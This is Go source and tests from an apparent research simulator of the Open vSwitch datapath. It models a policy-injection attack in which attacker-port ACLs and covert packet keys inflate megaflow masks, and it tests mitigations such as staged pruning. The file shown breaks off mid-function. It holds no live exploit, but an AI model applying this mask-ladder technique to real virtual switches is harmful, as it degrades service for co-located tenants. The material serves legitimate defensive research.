	allow := s.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	s.InstallRule(flowtable.Rule{Priority: 0})

	k := tcpKey(0x0a000001, 0, 1, 2)
	if d := s.ProcessKey(1, k); d.Verdict.Verdict != flowtable.Allow {
		t.Fatal("precondition")
	}
	if !s.RemoveRule(allow) {
		t.Fatal("RemoveRule failed")
	}
	if d := s.ProcessKey(2, k); d.Verdict.Verdict != flowtable.Deny {
		t.Fatal("stale allow served after rule removal")
	}
	if s.RemoveRule(allow) {
		t.Fatal("double remove succeeded")
	}
}

func TestRevalidatorEvictsIdleMegaflows(t *testing.T) {
	s := aclSwitch(Config{MaxIdle: 10})
	s.ProcessKey(1, tcpKey(0x0a000001, 0, 1, 2))
	s.ProcessKey(1, tcpKey(0xc0000001, 0, 1, 2))
	if s.Megaflow().Len() != 2 {
		t.Fatalf("megaflows = %d", s.Megaflow().Len())
	}
	// Keep the first alive, let the second idle out.
	s.ProcessKey(15, tcpKey(0x0a000001, 0, 3, 4)) // megaflow hit refreshes
	if evicted := s.RunRevalidator(22); evicted != 1 {
		t.Fatalf("evicted = %d", evicted)
	}
	if s.Megaflow().Len() != 1 {
		t.Fatalf("megaflows after reval = %d", s.Megaflow().Len())
	}
}

func TestRevalidatorEarlyClock(t *testing.T) {
	s := aclSwitch(Config{MaxIdle: 10})
	s.ProcessKey(1, tcpKey(0x0a000001, 0, 1, 2))
	if evicted := s.RunRevalidator(5); evicted != 0 {
		t.Fatalf("evicted = %d before idle horizon", evicted)
	}
}

func TestInstallErrCountedOnFlowLimit(t *testing.T) {
	s := New(Config{Megaflow: cache.MegaflowConfig{FlowLimit: 1}})
	s.InstallRule(flowtable.Rule{Priority: 0}) // deny *
	s.ProcessKey(1, tcpKey(1, 0, 0, 0))
	// Second distinct flow: the megaflow cache is full. (With an empty
	// catch-all rule both packets synthesise the same megaflow, so force
	// distinct masks via an ip_src allow rule.)
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000001)
	m.Mask.SetExact(flow.FieldIPSrc)
	s.InstallRule(flowtable.Rule{Match: m, Priority: 5, Action: flowtable.Action{Verdict: flowtable.Allow}})
	s.ProcessKey(2, tcpKey(0x80000000, 0, 0, 0)) // diverges at bit 0
	s.ProcessKey(3, tcpKey(0x40000000, 0, 0, 0)) // diverges at bit 1 -> new mask, cache full
	if got := s.Counters().InstallErr; got != 1 {
		t.Errorf("InstallErr = %d, want 1\n%s", got, s)
	}
}

func TestPorts(t *testing.T) {
	s := New(Config{Name: "br-int"})
	p1 := s.AddPort(1, "a")
	if s.AddPort(1, "dup") != p1 {
		t.Error("duplicate AddPort did not return existing port")
	}
	s.AddPort(2, "b")
	if len(s.Ports()) != 2 {
		t.Errorf("Ports() = %v", s.Ports())
	}
	if s.Port(9) != nil {
		t.Error("Port(9) should be nil")
	}
}

func TestMasksGrowPerDivergentFlow(t *testing.T) {
	// The attack precondition at dataplane level: distinct divergence
	// depths create distinct masks.
	s := New(Config{})
	var m flow.Match
	m.Key.Set(flow.FieldIPSrc, 0x0a000001)
	m.Mask.SetExact(flow.FieldIPSrc)
	s.InstallRule(flowtable.Rule{Match: m, Priority: 10, Action: flowtable.Action{Verdict: flowtable.Allow}})
	s.InstallRule(flowtable.Rule{Priority: 0})

	for d := 0; d < 32; d++ {
		k := tcpKey(0x0a000001^(1<<uint(31-d)), 0, 0, 0)
		s.ProcessKey(uint64(d), k)
	}
	if got := s.Megaflow().NumMasks(); got != 32 {
		t.Fatalf("masks = %d, want 32", got)
	}
}

func TestStringSummary(t *testing.T) {
	s := aclSwitch(Config{Name: "br0"})
	s.ProcessKey(1, tcpKey(0x0a000001, 0, 1, 2))
	out := s.String()
	for _, want := range []string{"br0", "2 rules", "megaflow cache"} {
		if !containsStr(out, want) {
			t.Errorf("summary missing %q:\n%s", want, out)
		}
	}
}

func containsStr(s, sub string) bool {
	return len(s) >= len(sub) && (func() bool {
		for i := 0; i+len(sub) <= len(s); i++ {
			if s[i:i+len(sub)] == sub {
				return true
			}
		}
		return false
	})()
}
