package dataplane_test

import (
	"testing"

	"policyinject/internal/attack"
	"policyinject/internal/dataplane"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
)

// attackSwitch builds a switch carrying the paper's two-field attack ACL
// (scoped to the attacker port 66) plus a victim whitelist on port 1 —
// the same scenario the benchmarks use.
func attackSwitch(t *testing.T, opts ...dataplane.Option) *dataplane.Switch {
	t.Helper()
	sw := dataplane.New("staged-conf", opts...)
	var vm flow.Match
	vm.Key.Set(flow.FieldInPort, 1)
	vm.Mask.SetExact(flow.FieldInPort)
	vm.Key.Set(flow.FieldEthType, flow.EthTypeIPv4)
	vm.Mask.SetExact(flow.FieldEthType)
	vm.Key.Set(flow.FieldIPSrc, 0x0a0a0000)
	vm.Mask.SetPrefix(flow.FieldIPSrc, 24)
	sw.InstallRule(flowtable.Rule{Match: vm, Priority: 100, Action: flowtable.Action{Verdict: flowtable.Allow}})
	var dm flow.Match
	dm.Key.Set(flow.FieldInPort, 1)
	dm.Mask.SetExact(flow.FieldInPort)
	sw.InstallRule(flowtable.Rule{Match: dm, Priority: 0})
	theACL, err := attack.TwoField().BuildACL()
	if err != nil {
		t.Fatal(err)
	}
	rules, err := theACL.Compile()
	if err != nil {
		t.Fatal(err)
	}
	for _, r := range rules {
		r.Match.Key.Set(flow.FieldInPort, 66)
		r.Match.Mask.SetExact(flow.FieldInPort)
		sw.InstallRule(r)
	}
	return sw
}

func covertKeys(t *testing.T) []flow.Key {
	t.Helper()
	keys, err := attack.TwoField().Keys()
	if err != nil {
		t.Fatal(err)
	}
	for i := range keys {
		keys[i].Set(flow.FieldInPort, 66)
	}
	return keys
}

func victimKeys(n int) []flow.Key {
	out := make([]flow.Key, n)
	for i := range out {
		out[i].Set(flow.FieldInPort, 1)
		out[i].Set(flow.FieldEthType, flow.EthTypeIPv4)
		out[i].Set(flow.FieldIPProto, flow.ProtoTCP)
		out[i].Set(flow.FieldIPSrc, uint64(0x0a0a0001+i%8))
		out[i].Set(flow.FieldIPDst, 0xac100002)
		out[i].Set(flow.FieldTPSrc, uint64(40000+i))
		out[i].Set(flow.FieldTPDst, 5201)
	}
	return out
}

// TestStagedSwitchEqualsUnpruned pins the whole-switch conformance
// contract of staged pruning under the real policy-injection attack: a
// staged-pruning switch must agree with the flat-scan switch on every
// decision (verdict and answering tier), per-tier hit counters, upcall
// counts and cache population, across scalar and batched driving — the
// pruned sweep changes cost, never semantics.
func TestStagedSwitchEqualsUnpruned(t *testing.T) {
	flat := attackSwitch(t, dataplane.WithoutEMC())
	pruned := attackSwitch(t, dataplane.WithoutEMC(), dataplane.WithStagedPruning())
	covert := covertKeys(t)
	victim := victimKeys(64)

	check := func(step string, a, b dataplane.Decision) {
		t.Helper()
		if a.Verdict != b.Verdict || a.Path != b.Path {
			t.Fatalf("%s: flat {v=%v path=%v} vs pruned {v=%v path=%v}",
				step, a.Verdict, a.Path, b.Verdict, b.Path)
		}
	}

	// Scalar phase: the covert stream executes first (as in the paper's
	// timeline), so the victim's megaflows install *behind* the resident
	// mask ladder; then victim traffic warms up.
	now := uint64(1)
	for _, k := range covert {
		check("covert scalar", flat.ProcessKey(now, k), pruned.ProcessKey(now, k))
	}
	for _, v := range victim {
		check("victim scalar", flat.ProcessKey(now, v), pruned.ProcessKey(now, v))
	}

	// Batched phase: victim bursts and mixed bursts against the resident
	// mask ladder.
	now++
	var outF, outP []dataplane.Decision
	for round := 0; round < 4; round++ {
		burst := append([]flow.Key{}, victim...)
		if round%2 == 1 {
			burst = append(burst, covert[:32]...)
		}
		outF = flat.ProcessBatch(now, burst, outF)
		outP = pruned.ProcessBatch(now, burst, outP)
		for i := range burst {
			check("burst", outF[i], outP[i])
		}
	}

	cf, cp := flat.Counters(), pruned.Counters()
	if cf.Packets != cp.Packets || cf.Upcalls != cp.Upcalls ||
		cf.Allowed != cp.Allowed || cf.Denied != cp.Denied {
		t.Fatalf("counters diverge:\n flat   %+v\n pruned %+v", cf, cp)
	}
	for _, th := range cf.TierHits {
		if got := cp.HitsFor(th.Tier); got != th.Hits {
			t.Fatalf("tier %q hits: flat %d, pruned %d", th.Tier, th.Hits, got)
		}
	}
	mfF, mfP := flat.Megaflow(), pruned.Megaflow()
	if mfF.Len() != mfP.Len() || mfF.NumMasks() != mfP.NumMasks() {
		t.Fatalf("cache population diverges: flat %d/%d, pruned %d/%d",
			mfF.Len(), mfF.NumMasks(), mfP.Len(), mfP.NumMasks())
	}
	if mfP.SubtablePrunes == 0 {
		t.Fatal("pruned switch never pruned a subtable under the mask ladder")
	}

	// The headline mechanism: every attack-minted mask pins the
	// attacker's in_port and carries port bits, so warm victim traffic
	// rejects the whole covert ladder via the signature and ports
	// prefilters — a multi-x cut in subtables probed vs the flat scan.
	visitsBefore := mfP.SubtableVisits
	scansBefore := mfF.MasksScanned
	outF = flat.ProcessBatch(now+1, victim, outF)
	outP = pruned.ProcessBatch(now+1, victim, outP)
	for i := range victim {
		check("victim-only burst", outF[i], outP[i])
	}
	visits := mfP.SubtableVisits - visitsBefore
	scans := mfF.MasksScanned - scansBefore
	if visits*4 > scans {
		t.Fatalf("pruning too weak on victim traffic: %d visits vs %d flat scans", visits, scans)
	}
}

// TestStagedMaintenanceKeepsSwitchConsistent runs idle eviction and a
// policy-change flush on a staged switch and checks traffic still
// classifies correctly afterwards (the staged prefilters must follow the
// megaflow population through every maintenance path).
func TestStagedMaintenanceKeepsSwitchConsistent(t *testing.T) {
	s := attackSwitch(t, dataplane.WithoutEMC(), dataplane.WithStagedPruning())
	covert := covertKeys(t)
	victim := victimKeys(64)
	for _, k := range covert {
		s.ProcessKey(1, k)
	}
	for _, k := range victim {
		s.ProcessKey(5, k)
	}
	// Idle-evict the covert population (last hit at 1 < deadline 3).
	if evicted := s.Megaflow().EvictIdle(3); evicted == 0 {
		t.Fatal("idle sweep evicted nothing")
	}
	for _, k := range victim {
		if d := s.ProcessKey(6, k); d.Verdict.Verdict != flowtable.Allow {
			t.Fatalf("victim denied after idle sweep: %+v", d)
		}
	}
	// Policy change: caches flush wholesale; traffic must reinstall.
	var extra flow.Match
	extra.Key.Set(flow.FieldInPort, 7)
	extra.Mask.SetExact(flow.FieldInPort)
	s.InstallRule(flowtable.Rule{Match: extra, Priority: 1})
	if s.Megaflow().Len() != 0 {
		t.Fatal("policy change did not flush the megaflow cache")
	}
	for _, k := range victim {
		if d := s.ProcessKey(7, k); d.Verdict.Verdict != flowtable.Allow {
			t.Fatalf("victim denied after flush: %+v", d)
		}
	}
}
