// Package dataplane assembles the hypervisor switch the paper attacks: the
// slow-path classifier (package classifier) behind a two-level fast path
// (package cache), with upcall handling, revalidation and counters — a
// faithful functional model of the Open vSwitch datapath pipeline:
//
//	packet -> EMC (exact match) -> megaflow TSS -> upcall to slow path
//	                                                  |
//	                              megaflow + EMC  <---+ install
//
// The switch is driven by a logical clock supplied by the caller (the
// simulator or the benchmarks), keeping every experiment deterministic.
package dataplane

import (
	"fmt"
	"strings"

	"policyinject/internal/cache"
	"policyinject/internal/classifier"
	"policyinject/internal/conntrack"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
)

// Path identifies which layer decided a packet's fate.
type Path uint8

const (
	PathEMC Path = iota
	PathMegaflow
	PathSlow
)

func (p Path) String() string {
	switch p {
	case PathEMC:
		return "emc"
	case PathMegaflow:
		return "megaflow"
	default:
		return "slowpath"
	}
}

// Config assembles a Switch.
type Config struct {
	Name       string
	EMC        cache.EMCConfig
	Megaflow   cache.MegaflowConfig
	Classifier classifier.Config
	// MaxIdle is the revalidator idle timeout in logical time units;
	// 0 means 10 (the OVS default of 10s, at one unit per second).
	MaxIdle uint64
	// Conntrack, when non-nil, attaches a connection tracker so stateful
	// ACLs (Recirc/Commit actions) work. Stateless rule sets are
	// unaffected.
	Conntrack *conntrack.Config
}

// Decision is the outcome of processing one packet.
type Decision struct {
	Verdict      cache.Verdict
	Path         Path
	MasksScanned int // megaflow subtables visited, summed over recirculations
	Recirculated bool
}

// Counters aggregates switch-level statistics.
type Counters struct {
	Packets    uint64
	EMCHits    uint64
	MFHits     uint64
	Upcalls    uint64
	Allowed    uint64
	Denied     uint64
	ParseError uint64
	InstallErr uint64 // upcalls whose megaflow could not be installed
}

// Port is a virtual port of the switch (a pod/VM attachment point).
type Port struct {
	ID   uint32
	Name string

	RxPackets, RxBytes uint64
	RxDropped          uint64
	TxPackets, TxBytes uint64
}

// Switch is the hypervisor switch instance. Not safe for concurrent use;
// experiments drive it from one goroutine, as a single PMD thread would.
type Switch struct {
	cfg   Config
	table flowtable.Table
	cls   *classifier.Classifier
	emc   *cache.EMC
	mfc   *cache.Megaflow
	ports map[uint32]*Port

	ct *conntrack.Table

	counters Counters
}

// New builds a Switch per cfg.
func New(cfg Config) *Switch {
	if cfg.MaxIdle == 0 {
		cfg.MaxIdle = 10
	}
	s := &Switch{
		cfg:   cfg,
		cls:   classifier.New(cfg.Classifier),
		emc:   cache.NewEMC(cfg.EMC),
		mfc:   cache.NewMegaflow(cfg.Megaflow),
		ports: make(map[uint32]*Port),
	}
	if cfg.Conntrack != nil {
		s.ct = conntrack.New(*cfg.Conntrack)
	}
	return s
}

// Name returns the configured switch name.
func (s *Switch) Name() string { return s.cfg.Name }

// AddPort creates a port with the given id, returning it. Adding an
// existing id returns the existing port.
func (s *Switch) AddPort(id uint32, name string) *Port {
	if p, ok := s.ports[id]; ok {
		return p
	}
	p := &Port{ID: id, Name: name}
	s.ports[id] = p
	return p
}

// Port returns the port with the given id, or nil.
func (s *Switch) Port(id uint32) *Port { return s.ports[id] }

// Ports returns all ports (unordered).
func (s *Switch) Ports() []*Port {
	out := make([]*Port, 0, len(s.ports))
	for _, p := range s.ports {
		out = append(out, p)
	}
	return out
}

// InstallRule adds a policy rule to the slow path. Installed caches are
// flushed: a policy change invalidates cached verdicts wholesale, the
// conservative variant of the OVS revalidator's consistency pass.
func (s *Switch) InstallRule(r flowtable.Rule) *flowtable.Rule {
	stored := s.table.Insert(r)
	s.cls.Insert(stored)
	s.flushCaches()
	return stored
}

// RemoveRule removes a rule previously installed.
func (s *Switch) RemoveRule(r *flowtable.Rule) bool {
	if !s.table.Remove(r) {
		return false
	}
	s.cls.Remove(r)
	s.flushCaches()
	return true
}

func (s *Switch) flushCaches() {
	s.emc.Flush()
	s.mfc.Flush()
}

// Rules returns the installed rules in evaluation order.
func (s *Switch) Rules() []*flowtable.Rule { return s.table.Rules() }

// Process runs one frame received on port inPort through the pipeline at
// logical time now.
func (s *Switch) Process(now uint64, inPort uint32, frame []byte) (Decision, error) {
	if p := s.ports[inPort]; p != nil {
		p.RxPackets++
		p.RxBytes += uint64(len(frame))
	}
	k, err := pkt.Extract(frame, inPort)
	if err != nil {
		s.counters.ParseError++
		s.counters.Packets++
		if p := s.ports[inPort]; p != nil {
			p.RxDropped++
		}
		return Decision{Verdict: cache.Verdict{Verdict: flowtable.Deny}}, err
	}
	d := s.ProcessKey(now, k)
	if p := s.ports[inPort]; p != nil && d.Verdict.Verdict == flowtable.Deny {
		p.RxDropped++
	}
	return d, nil
}

// ProcessKey classifies an already-extracted key — the measurement hook
// the benchmarks and the throughput simulator use directly, bypassing
// frame parsing. Packets hitting a conntrack dispatch rule are
// recirculated once: the connection tracker classifies the 5-tuple, the
// ct_state field is stamped into the key, and the pipeline runs again —
// both passes billed, as both cost the real switch.
func (s *Switch) ProcessKey(now uint64, k flow.Key) Decision {
	s.counters.Packets++
	d := s.classifyOnce(now, k)
	if !d.Verdict.Recirc {
		s.account(d.Verdict)
		return d
	}
	if s.ct == nil {
		// A stateful rule set on a switch without conntrack: fail closed.
		s.counters.Denied++
		d.Verdict = cache.Verdict{Verdict: flowtable.Deny}
		return d
	}
	tuple := k.Tuple()
	state, _ := s.ct.Lookup(tuple, now)
	k2 := k
	k2.Set(flow.FieldCTState, state.CTBits())
	d2 := s.classifyOnce(now, k2)
	d2.MasksScanned += d.MasksScanned
	d2.Recirculated = true
	if d2.Verdict.Recirc {
		// A second dispatch would loop; fail closed.
		d2.Verdict = cache.Verdict{Verdict: flowtable.Deny}
	}
	if d2.Verdict.Verdict == flowtable.Allow && d2.Verdict.Commit {
		if !s.ct.Commit(tuple, now) {
			// Table full: netfilter drops what it cannot track.
			d2.Verdict = cache.Verdict{Verdict: flowtable.Deny}
		}
	}
	s.account(d2.Verdict)
	return d2
}

// classifyOnce runs one pipeline pass (EMC -> megaflow -> upcall) without
// verdict accounting or recirculation handling.
func (s *Switch) classifyOnce(now uint64, k flow.Key) Decision {
	if ent, ok := s.emc.Lookup(k, now); ok {
		s.counters.EMCHits++
		return Decision{Verdict: ent.Verdict, Path: PathEMC}
	}

	ent, scanned, ok := s.mfc.Lookup(k, now)
	if ok {
		s.counters.MFHits++
		s.emc.Insert(k, ent)
		return Decision{Verdict: ent.Verdict, Path: PathMegaflow, MasksScanned: scanned}
	}

	// Upcall: full slow-path classification, then cache the megaflow. The
	// EMC entry references the megaflow so its hits keep the flow warm.
	s.counters.Upcalls++
	res := s.cls.Lookup(k)
	v := cache.Verdict{Verdict: flowtable.Deny}
	if res.Rule != nil {
		v = res.Rule.Action
	}
	mfEnt, err := s.mfc.Insert(res.Megaflow, v, now)
	if err != nil {
		s.counters.InstallErr++
	} else {
		s.emc.Insert(k, mfEnt)
	}
	return Decision{Verdict: v, Path: PathSlow, MasksScanned: scanned}
}

func (s *Switch) account(v cache.Verdict) {
	if v.Verdict == flowtable.Allow {
		s.counters.Allowed++
	} else {
		s.counters.Denied++
	}
}

// RunRevalidator performs the periodic maintenance OVS's revalidator
// threads do: evict megaflows idle past the configured timeout and expire
// stale conntrack entries. Returns the megaflow eviction count.
func (s *Switch) RunRevalidator(now uint64) int {
	if s.ct != nil {
		s.ct.Expire(now)
	}
	if now < s.cfg.MaxIdle {
		return 0
	}
	return s.mfc.EvictIdle(now - s.cfg.MaxIdle)
}

// Conntrack exposes the connection tracker, or nil when stateless.
func (s *Switch) Conntrack() *conntrack.Table { return s.ct }

// Counters returns a snapshot of the switch counters.
func (s *Switch) Counters() Counters { return s.counters }

// EMC exposes the microflow cache for inspection and experiments.
func (s *Switch) EMC() *cache.EMC { return s.emc }

// Megaflow exposes the megaflow cache for inspection and experiments.
func (s *Switch) Megaflow() *cache.Megaflow { return s.mfc }

// Classifier exposes the slow-path classifier for inspection.
func (s *Switch) Classifier() *classifier.Classifier { return s.cls }

// String renders a dpctl-style summary.
func (s *Switch) String() string {
	var b strings.Builder
	fmt.Fprintf(&b, "switch %q: %d rules, %d ports\n", s.cfg.Name, s.table.Len(), len(s.ports))
	fmt.Fprintf(&b, "  counters: %+v\n", s.counters)
	fmt.Fprintf(&b, "  emc: %d/%d entries\n", s.emc.Len(), s.emc.Cap())
	fmt.Fprintf(&b, "  %s", s.mfc.String())
	return b.String()
}
