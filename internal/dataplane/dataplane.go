// Package dataplane assembles the hypervisor switch the paper attacks: the
// slow-path classifier (package classifier) behind a composable hierarchy
// of fast-path cache tiers (package cache), with upcall handling,
// revalidation and counters — a functional model of the Open vSwitch
// datapath pipeline:
//
//	packet -> tier 0 (EMC) -> tier 1 (SMC, optional) -> tier N (megaflow TSS) -> upcall
//	                                                                                |
//	                            every tier  <---  install + promote  <-------------+
//
// The hierarchy is assembled with functional options (WithEMC, WithSMC,
// WithMegaflow, ...) or fully custom via WithTiers; the switch walks
// whatever tiers it was given, so real OVS variants — the 2.6 default
// (EMC+TSS), the 2.10 signature-match cache, EMC-off kernel deployments —
// and per-tier mitigations are all constructions, not forks.
//
// The switch is driven by a logical clock supplied by the caller (the
// simulator or the benchmarks), keeping every experiment deterministic.
package dataplane

import (
	"fmt"
	"strings"

	"policyinject/internal/cache"
	"policyinject/internal/classifier"
	"policyinject/internal/conntrack"
	"policyinject/internal/flow"
	"policyinject/internal/flowtable"
	"policyinject/internal/pkt"
)

// Path identifies which layer decided a packet's fate.
type Path uint8

const (
	PathEMC Path = iota
	PathSMC
	PathMegaflow
	PathSlow
)

func (p Path) String() string {
	switch p {
	case PathEMC:
		return "emc"
	case PathSMC:
		return "smc"
	case PathMegaflow:
		return "megaflow"
	default:
		return "slowpath"
	}
}

// config collects what the options assemble. It is internal: switches are
// built with New(name, opts...).
type config struct {
	emc        *cache.EMCConfig
	smc        *cache.SMCConfig
	megaflow   cache.MegaflowConfig
	classifier classifier.Config
	maxIdle    uint64
	conntrack  *conntrack.Config
	tiers      []Tier // custom hierarchy (tiersSet): other cache opts ignored
	tiersSet   bool
}

// Option configures a Switch under construction.
type Option func(*config)

// WithEMC sets the exact-match (microflow) cache configuration. The EMC is
// on by default; pass a negative Entries (or use WithoutEMC) to disable.
func WithEMC(cfg cache.EMCConfig) Option { return func(c *config) { c.emc = &cfg } }

// WithoutEMC removes the exact-match cache — the OVS *kernel* datapath
// model the paper's Kubernetes demo exercises.
func WithoutEMC() Option {
	return WithEMC(cache.EMCConfig{Entries: -1})
}

// WithSMC inserts OVS 2.10's signature-match cache between the EMC and the
// megaflow TSS (off by default, as in OVS).
func WithSMC(cfg cache.SMCConfig) Option { return func(c *config) { c.smc = &cfg } }

// WithMegaflow sets the megaflow TSS configuration (flow limits, mask
// quotas, sorted-TSS mitigation).
func WithMegaflow(cfg cache.MegaflowConfig) Option { return func(c *config) { c.megaflow = cfg } }

// WithClassifier sets the slow-path classifier configuration.
func WithClassifier(cfg classifier.Config) Option { return func(c *config) { c.classifier = cfg } }

// WithMaxIdle sets the revalidator idle timeout in logical time units
// (default 10, the OVS max-idle of 10s at one unit per second).
func WithMaxIdle(units uint64) Option { return func(c *config) { c.maxIdle = units } }

// WithConntrack attaches a connection tracker so stateful ACLs
// (Recirc/Commit actions) work. Stateless rule sets are unaffected.
func WithConntrack(cfg conntrack.Config) Option { return func(c *config) { c.conntrack = &cfg } }

// WithTiers replaces the default hierarchy with an explicit tier list,
// walked in order. The cache options (WithEMC/WithSMC/WithMegaflow) are
// ignored when this is used. Upcall results are installed into the last
// tier implementing MegaflowInstaller; without one the switch still
// classifies correctly but caches nothing.
func WithTiers(tiers ...Tier) Option {
	return func(c *config) { c.tiers, c.tiersSet = tiers, true }
}

// Decision is the outcome of processing one packet.
type Decision struct {
	Verdict      cache.Verdict
	Path         Path
	MasksScanned int // megaflow subtables visited, summed over recirculations
	Recirculated bool
}

// TierHit is one tier's hit count in a Counters snapshot, in tier walk
// order.
type TierHit struct {
	Tier string
	Hits uint64
}

// Counters aggregates switch-level statistics. Cache hits are per tier
// (TierHits, in walk order); the EMCHits/MFHits accessors cover the common
// hierarchies.
type Counters struct {
	Packets    uint64
	TierHits   []TierHit
	Upcalls    uint64
	Allowed    uint64
	Denied     uint64
	ParseError uint64
	InstallErr uint64 // upcalls whose megaflow could not be installed
}

// HitsFor returns the hit count of the named tier (0 when absent).
func (c Counters) HitsFor(tier string) uint64 {
	for _, th := range c.TierHits {
		if th.Tier == tier {
			return th.Hits
		}
	}
	return 0
}

// EMCHits returns the exact-match tier's hit count.
func (c Counters) EMCHits() uint64 { return c.HitsFor("emc") }

// SMCHits returns the signature-match tier's hit count.
func (c Counters) SMCHits() uint64 { return c.HitsFor("smc") }

// MFHits returns the megaflow tier's hit count.
func (c Counters) MFHits() uint64 { return c.HitsFor("megaflow") }

// Port is a virtual port of the switch (a pod/VM attachment point).
type Port struct {
	ID   uint32
	Name string

	RxPackets, RxBytes uint64
	RxDropped          uint64
	TxPackets, TxBytes uint64
}

// Switch is the hypervisor switch instance. Not safe for concurrent use;
// experiments drive it from one goroutine, as a single PMD thread would.
// For the multi-core view, see PMDPool.
type Switch struct {
	name    string
	maxIdle uint64
	table   flowtable.Table
	cls     *classifier.Classifier
	ports   map[uint32]*Port

	tiers     []Tier
	tierHits  []uint64
	installer MegaflowInstaller // last installer tier, nil if none
	promoteTo int               // tiers[:promoteTo] receive upcall promotions

	ct *conntrack.Table

	counters Counters
}

// New builds a Switch with the given name and options. With no options the
// hierarchy is the stock OVS userspace datapath: default EMC in front of a
// default megaflow TSS.
func New(name string, opts ...Option) *Switch {
	var cfg config
	for _, o := range opts {
		o(&cfg)
	}
	if cfg.maxIdle == 0 {
		cfg.maxIdle = 10
	}
	tiers := cfg.tiers
	if !cfg.tiersSet {
		emcCfg := cache.EMCConfig{}
		if cfg.emc != nil {
			emcCfg = *cfg.emc
		}
		if emcCfg.Entries >= 0 {
			tiers = append(tiers, NewEMCTier(emcCfg))
		}
		if cfg.smc != nil && cfg.smc.Entries >= 0 {
			tiers = append(tiers, NewSMCTier(*cfg.smc))
		}
		tiers = append(tiers, NewMegaflowTier(cfg.megaflow))
	}
	s := &Switch{
		name:     name,
		maxIdle:  cfg.maxIdle,
		cls:      classifier.New(cfg.classifier),
		ports:    make(map[uint32]*Port),
		tiers:    tiers,
		tierHits: make([]uint64, len(tiers)),
	}
	for i := len(tiers) - 1; i >= 0; i-- {
		if inst, ok := tiers[i].(MegaflowInstaller); ok {
			s.installer = inst
			s.promoteTo = i
			break
		}
	}
	if cfg.conntrack != nil {
		s.ct = conntrack.New(*cfg.conntrack)
	}
	return s
}

// Name returns the configured switch name.
func (s *Switch) Name() string { return s.name }

// Tiers returns the cache hierarchy in walk order.
func (s *Switch) Tiers() []Tier { return s.tiers }

// AddPort creates a port with the given id, returning it. Adding an
// existing id returns the existing port.
func (s *Switch) AddPort(id uint32, name string) *Port {
	if p, ok := s.ports[id]; ok {
		return p
	}
	p := &Port{ID: id, Name: name}
	s.ports[id] = p
	return p
}

// Port returns the port with the given id, or nil.
func (s *Switch) Port(id uint32) *Port { return s.ports[id] }

// Ports returns all ports (unordered).
func (s *Switch) Ports() []*Port {
	out := make([]*Port, 0, len(s.ports))
	for _, p := range s.ports {
		out = append(out, p)
	}
	return out
}

// InstallRule adds a policy rule to the slow path. Installed caches are
// flushed: a policy change invalidates cached verdicts wholesale, the
// conservative variant of the OVS revalidator's consistency pass.
func (s *Switch) InstallRule(r flowtable.Rule) *flowtable.Rule {
	stored := s.table.Insert(r)
	s.cls.Insert(stored)
	s.flushCaches()
	return stored
}

// RemoveRule removes a rule previously installed.
func (s *Switch) RemoveRule(r *flowtable.Rule) bool {
	if !s.table.Remove(r) {
		return false
	}
	s.cls.Remove(r)
	s.flushCaches()
	return true
}

func (s *Switch) flushCaches() {
	for _, t := range s.tiers {
		t.Flush()
	}
}

// Rules returns the installed rules in evaluation order.
func (s *Switch) Rules() []*flowtable.Rule { return s.table.Rules() }

// Process runs one frame received on port inPort through the pipeline at
// logical time now.
func (s *Switch) Process(now uint64, inPort uint32, frame []byte) (Decision, error) {
	if p := s.ports[inPort]; p != nil {
		p.RxPackets++
		p.RxBytes += uint64(len(frame))
	}
	k, err := pkt.Extract(frame, inPort)
	if err != nil {
		s.counters.ParseError++
		s.counters.Packets++
		if p := s.ports[inPort]; p != nil {
			p.RxDropped++
		}
		return Decision{Verdict: cache.Verdict{Verdict: flowtable.Deny}}, err
	}
	d := s.ProcessKey(now, k)
	if p := s.ports[inPort]; p != nil {
		if d.Verdict.Verdict == flowtable.Allow {
			p.TxPackets++
			p.TxBytes += uint64(len(frame))
		} else {
			p.RxDropped++
		}
	}
	return d, nil
}

// ProcessKey classifies an already-extracted key — the measurement hook
// the benchmarks and the throughput simulator use directly, bypassing
// frame parsing. Packets hitting a conntrack dispatch rule are
// recirculated once: the connection tracker classifies the 5-tuple, the
// ct_state field is stamped into the key, and the pipeline runs again —
// both passes billed, as both cost the real switch.
func (s *Switch) ProcessKey(now uint64, k flow.Key) Decision {
	s.counters.Packets++
	return s.processOne(now, k)
}

// processOne is ProcessKey minus the packet counter, so ProcessBatch can
// bill a whole burst with one add.
func (s *Switch) processOne(now uint64, k flow.Key) Decision {
	d := s.classifyOnce(now, k)
	if !d.Verdict.Recirc {
		s.account(d.Verdict)
		return d
	}
	if s.ct == nil {
		// A stateful rule set on a switch without conntrack: fail closed.
		s.counters.Denied++
		d.Verdict = cache.Verdict{Verdict: flowtable.Deny}
		return d
	}
	tuple := k.Tuple()
	state, _ := s.ct.Lookup(tuple, now)
	k2 := k
	k2.Set(flow.FieldCTState, state.CTBits())
	d2 := s.classifyOnce(now, k2)
	d2.MasksScanned += d.MasksScanned
	d2.Recirculated = true
	if d2.Verdict.Recirc {
		// A second dispatch would loop; fail closed.
		d2.Verdict = cache.Verdict{Verdict: flowtable.Deny}
	}
	if d2.Verdict.Verdict == flowtable.Allow && d2.Verdict.Commit {
		if !s.ct.Commit(tuple, now) {
			// Table full: netfilter drops what it cannot track.
			d2.Verdict = cache.Verdict{Verdict: flowtable.Deny}
		}
	}
	s.account(d2.Verdict)
	return d2
}

// GrowDecisions returns out resized to n decisions, reallocating only
// when its capacity is insufficient — the shared output-buffer contract
// of every ProcessBatch implementation.
func GrowDecisions(out []Decision, n int) []Decision {
	if cap(out) < n {
		out = make([]Decision, n)
	}
	return out[:n]
}

// ProcessBatch classifies a batch of keys at logical time now, writing one
// Decision per key into out (grown if needed) and returning it. Batching
// is the first-class driving surface: the simulator and the PMD pool hand
// whole NIC bursts to the pipeline instead of one packet at a time.
func (s *Switch) ProcessBatch(now uint64, keys []flow.Key, out []Decision) []Decision {
	out = GrowDecisions(out, len(keys))
	s.counters.Packets += uint64(len(keys))
	for i := range keys {
		out[i] = s.processOne(now, keys[i])
	}
	return out
}

// classifyOnce runs one pipeline pass (tier walk -> upcall) without
// verdict accounting or recirculation handling. A hit on tier i is
// promoted into tiers [0, i); an upcall's synthesised megaflow is
// installed into the authoritative tier and promoted above it.
func (s *Switch) classifyOnce(now uint64, k flow.Key) Decision {
	scanned := 0
	for i, t := range s.tiers {
